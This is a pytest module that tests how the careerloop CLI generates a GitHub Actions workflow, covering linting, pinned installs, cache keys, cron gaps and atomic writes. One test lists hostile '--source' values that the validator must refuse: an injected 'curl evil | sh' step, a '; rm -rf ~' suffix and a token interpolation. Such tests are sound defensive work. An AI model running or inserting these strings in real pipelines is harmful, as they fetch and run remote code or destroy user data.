"""`careerloop init --github-action`: the workflow written into a user's repository.

The file is linted as this repository's own workflows are (actionlint with shellcheck,
the SchemaStore schema, zizmor), and its steps are executed with the runner of
tests/workflow_runner.py in a repository that has no pyproject.toml — only the user's
careerloop.toml — with its pip step really installing careerloop==<this version>
offline, from a wheel built from this checkout.
"""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from careerloop import __version__
from careerloop.connectors.files.demo import write_demo_workspace
from careerloop.errors import ConfigError
from careerloop.github_workflow import (
    KEEP_ALIVE_CRON,
    MONTHLY_CRON,
    WORKFLOW_PATH,
    WorkflowSettings,
    install_requirement,
    render_workflow,
    settings_for,
    write_workflow,
)
from tests.conftest import invoke
from tests.workflow_runner import (
    TODAY,
    ZIZMOR_CONFIG,
    OfflinePython,
    build_wheel,
    check,
    load_yaml,
    offline_python,
    run_workflow,
    tool,
)

SOURCE = "git+https://github.com/careerloop/careerloop@v0.1.0"
# GitHub evicts a cache that has not been used for 7 days.
CACHE_EVICTION = dt.timedelta(days=7)


def written(repo: Path, *args: str) -> Path:
    """`careerloop init --github-action` run at the root of `repo`; the file it wrote."""
    code, stdout, stderr = invoke(CliRunner(), "init", "--github-action", *args)
    assert code == 0, stdout + stderr
    assert f"Wrote {WORKFLOW_PATH}" in stdout
    return repo / WORKFLOW_PATH


@pytest.fixture
def user_repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A user's repository (the sample workspace and its careerloop.toml), as the cwd."""
    repo = write_demo_workspace(tmp_path / "repo", dt.date.fromisoformat(TODAY)).parent
    monkeypatch.chdir(repo)
    return repo


# --- The file --------------------------------------------------------------------------


@pytest.mark.parametrize("source", [None, SOURCE], ids=["pypi", "git-source"])
def test_the_written_workflow_passes_the_linters(
    user_repo: Path, tmp_path: Path, source: str | None
) -> None:
    path = written(user_repo, *(["--source", source] if source else []))
    check(tool("actionlint"), "-no-color", f"-shellcheck={tool('shellcheck')}", str(path))
    check(tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(path))
    config = tmp_path / "zizmor.yml"
    config.write_text(ZIZMOR_CONFIG, encoding="utf-8")
    check(tool("zizmor"), "--offline", "--no-progress", "--config", str(config), str(path))


def test_it_installs_this_version_from_pypi_never_the_checkout(user_repo: Path) -> None:
    workflow = load_yaml(written(user_repo))
    assert workflow["env"]["CAREERLOOP_REQUIREMENT"] == f"careerloop=={__version__}"
    (job,) = workflow["jobs"].values()
    scripts = [step["run"] for step in job["steps"] if "run" in step]
    installs = [s for s in scripts if "pip install" in s]
    assert len(installs) == 1
    assert '"$CAREERLOOP_REQUIREMENT"' in installs[0]
    assert "careerloop --version" in installs[0]
    assert not any("pip install ." in s or "-e ." in s for s in scripts)


def test_a_tagged_source_is_installed_as_a_direct_reference(user_repo: Path) -> None:
    workflow = load_yaml(written(user_repo, "--source", SOURCE))
    assert workflow["env"]["CAREERLOOP_REQUIREMENT"] == f"careerloop @ {SOURCE}"


@pytest.mark.parametrize(
    "source",
    [
        "careerloop",  # not a URL
        "https://github.com/careerloop/careerloop@v1",  # not git+
        "git+https://github.com/careerloop/careerloop",  # no tag
        "git+http://github.com/careerloop/careerloop@v1",  # not https
        'git+https://github.com/careerloop/careerloop@v1"\nrun: curl evil | sh',
        "git+https://github.com/careerloop/careerloop@v1 ; rm -rf ~",
        "git+https://github.com/careerloop/careerloop@${{ github.token }}",
    ],
)
def test_a_source_that_is_not_a_tagged_git_url_is_refused(source: str) -> None:
    with pytest.raises(ConfigError, match="--source must be a git URL with a tag"):
        install_requirement(source)


def test_the_pip_cache_is_keyed_on_a_file_the_users_repository_has(user_repo: Path) -> None:
    workflow = load_yaml(written(user_repo))
    (job,) = workflow["jobs"].values()
    (setup,) = [s for s in job["steps"] if s.get("uses", "").startswith("actions/setup-python")]
    assert setup["with"]["cache"] == "pip"
    key_file = setup["with"]["cache-dependency-path"]
    assert key_file == str(WORKFLOW_PATH)
    assert (user_repo / key_file).is_file()
    assert not (user_repo / "pyproject.toml").exists()  # what setup-python would look for
    # The key file names the version: a new careerloop is a new pip cache.
    assert f"careerloop=={__version__}" in (user_repo / key_file).read_text(encoding="utf-8")


def test_the_state_and_reviews_paths_are_those_of_the_users_config(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = tmp_path / "repo"
    (repo / "plan").mkdir(parents=True)
    (repo / "plan" / "careerloop.toml").write_text(
        '[workspace]\ntimezone = "UTC"\nstate = "../var/state.db"\n\n'
        '[reviews.local]\ndir = "out/reviews"\n', encoding="utf-8")
    monkeypatch.chdir(repo)
    env = load_yaml(written(repo))["env"]
    assert env["CAREERLOOP_CONFIG"] == "careerloop.toml"  # --config was not given
    code, stdout, stderr = invoke(CliRunner(), "--config", "plan/careerloop.toml", "init",
                                  "--github-action", "--force")
    assert code == 0, stdout + stderr
    env = load_yaml(repo / WORKFLOW_PATH)["env"]
    assert env["CAREERLOOP_CONFIG"] == "plan/careerloop.toml"
    assert env["CAREERLOOP_STATE_DIR"] == "var"
    assert env["CAREERLOOP_REVIEWS_DIR"] == "plan/out/reviews"


def test_a_config_outside_the_repository_is_refused(tmp_path: Path) -> None:
    (tmp_path / "elsewhere.toml").write_text("", encoding="utf-8")
    (tmp_path / "repo").mkdir()
    with pytest.raises(ConfigError, match="outside the repository"):
        settings_for(tmp_path / "repo", tmp_path / "elsewhere.toml", "careerloop==1.0.0")


# --- The schedule keeps the state cache alive ----------------------------------------------


def cron_matches(field: str, value: int) -> bool:
    """One cron field (`*`, a number or a comma list: what the workflows use)."""
    return field == "*" or value in {int(part) for part in field.split(",")}


def scheduled_runs(crons: list[str], start: dt.date, days: int) -> list[dt.datetime]:
    """Every time the crons fire from `start` on (UTC), by cron's rules: when both the day
    of month and the day of week are restricted, either one matching is enough."""
    runs = []
    for offset in range(days):
        day = start + dt.timedelta(days=offset)
        for cron in crons:
            minute, hour, dom, month, dow = cron.split()
            weekday = day.isoweekday() % 7  # cron: 0 is Sunday
            by_dom, by_dow = cron_matches(dom, day.day), cron_matches(dow, weekday)
            on_day = (by_dom or by_dow) if "*" not in (dom, dow) else (by_dom and by_dow)
            if on_day and cron_matches(month, day.month):
                runs.append(dt.datetime(day.year, day.month, day.day, int(hour), int(minute)))
    return sorted(runs)


def test_scheduled_runs_are_never_more_than_4_days_apart(user_repo: Path) -> None:
    workflow = load_yaml(written(user_repo))
    crons = [entry["cron"] for entry in workflow["on"]["schedule"]]
    assert crons == [MONTHLY_CRON, KEEP_ALIVE_CRON]
    runs = scheduled_runs(crons, dt.date(2026, 1, 1), 3 * 365)
    gaps = [later - earlier for earlier, later in zip(runs, runs[1:], strict=False)]
    # By hand: Monday 12:41 → Thursday 12:41 is 3 days, Thursday → Monday is 4 days; the
    # 1st of a month at 12:17 only ever falls between two of them.
    assert max(gaps) == dt.timedelta(days=4)
    assert max(gaps) < CACHE_EVICTION - dt.timedelta(days=1)  # a day to spare, at least


def test_the_check_counts_a_weekly_schedule_as_7_days() -> None:
    # The old weekly schedule would leave the cache to expire: the check can fail.
    runs = scheduled_runs([MONTHLY_CRON, "41 12 * * 1"], dt.date(2026, 1, 1), 365)
    gaps = [later - earlier for earlier, later in zip(runs, runs[1:], strict=False)]
    assert max(gaps) == dt.timedelta(days=7)


# --- Writing it --------------------------------------------------------------------------


def test_an_existing_workflow_is_kept_without_force(user_repo: Path) -> None:
    path = user_repo / WORKFLOW_PATH
    path.parent.mkdir(parents=True)
    path.write_text("name: mine\n", encoding="utf-8")
    code, stdout, stderr = invoke(CliRunner(), "init", "--github-action")
    assert code == 2
    assert stderr == f"error: {WORKFLOW_PATH} exists already; pass --force to overwrite it\n"
    assert path.read_text(encoding="utf-8") == "name: mine\n"
    assert sorted(p.name for p in path.parent.iterdir()) == ["careerloop.yml"]

    written(user_repo, "--force")
    assert load_yaml(path)["name"] == "careerloop"


def test_a_refused_source_writes_nothing(user_repo: Path) -> None:
    code, stdout, stderr = invoke(CliRunner(), "init", "--github-action", "--source", "careerloop")
    assert code == 2
    assert stderr.startswith("error: --source must be a git URL with a tag")
    assert len(stderr.splitlines()) == 1
    assert not (user_repo / ".github").exists()


def test_source_without_github_action_is_a_usage_error(user_repo: Path) -> None:
    code, _, stderr = invoke(CliRunner(), "init", "--source", SOURCE)
    assert code == 2
    assert "--source goes with --github-action" in stderr
    assert not (user_repo / ".github").exists()


def test_the_config_is_not_touched(user_repo: Path) -> None:
    config = user_repo / "careerloop.toml"
    before = config.read_bytes()
    written(user_repo)
    assert config.read_bytes() == before


def test_a_failed_write_leaves_no_partial_file(tmp_path: Path) -> None:
    settings = WorkflowSettings(requirement="careerloop==1.0.0")
    (tmp_path / ".github").write_text("a file where the folder should be", encoding="utf-8")
    with pytest.raises(ConfigError, match=f"cannot write {WORKFLOW_PATH}"):
        write_workflow(tmp_path, settings)
    assert sorted(p.name for p in tmp_path.iterdir()) == [".github"]

    # The file written, then the rename refused (a folder in its place): no leftover.
    other = tmp_path / "other"
    (other / WORKFLOW_PATH).mkdir(parents=True)
    with pytest.raises(ConfigError, match=f"cannot write {WORKFLOW_PATH}"):
        write_workflow(other, settings, force=True)
    assert [p.name for p in (other / WORKFLOW_PATH).parent.iterdir()] == ["careerloop.yml"]


def test_every_value_is_one_yaml_string() -> None:
    settings = WorkflowSettings(requirement="careerloop==1.0.0", config='a "b": c.toml',
                                state_dir="x: y", reviews_dir="#r")
    text = render_workflow(settings)
    assert "<<" not in text
    workflow_env: dict[str, Any] = yaml.safe_load(text)["env"]
    assert workflow_env == {"CAREERLOOP_REQUIREMENT": "careerloop==1.0.0",
                            "CAREERLOOP_CONFIG": 'a "b": c.toml',
                            "CAREERLOOP_STATE_DIR": "x: y", "CAREERLOOP_REVIEWS_DIR": "#r"}


# --- Running it ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def wheels(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("wheels")
    build_wheel(folder)
    return folder


def test_the_written_workflow_installs_careerloop_and_publishes_once(
    user_repo: Path, tmp_path: Path, wheels: Path
) -> None:
    path = written(user_repo)
    python: OfflinePython = offline_python(tmp_path / "python", wheels)
    (tmp_path / "run1").mkdir()
    (tmp_path / "run2").mkdir()
    run = run_workflow(path, user_repo, tmp_path / "run1", event="schedule", inputs={},
                       schedule=MONTHLY_CRON, path=python.path(), more_env=python.env,
                       stand_in_for_pip=False)
    assert run.code == 0, run.stdout + run.stderr
    assert run.ran == ["Look for the config", "Install careerloop",
                       "Sync and publish the reviews"]
    assert python.installed_careerloop() is not None
    assert f"careerloop {__version__}" in run.stdout.splitlines()
    assert sorted(run.written()) == ["2026-10-monthly", "2026-Q3-quarterly"]
    env = load_yaml(path)["env"]
    assert (user_repo / env["CAREERLOOP_STATE_DIR"] / "state.db").is_file()
    assert (user_repo / env["CAREERLOOP_REVIEWS_DIR"] / "2026-10-monthly.md").is_file()

    # The Thursday run keeps the draft of the running month; closed reviews stay as they are.
    again = run_workflow(path, user_repo, tmp_path / "run2", event="schedule", inputs={},
                         schedule=KEEP_ALIVE_CRON, path=python.path(), more_env=python.env,
                         stand_in_for_pip=False)
    assert again.code == 0, again.stdout + again.stderr
    assert again.written() == ["2026-11-monthly"]
    assert json.dumps(again.events()).count("review.unchanged") >= 2
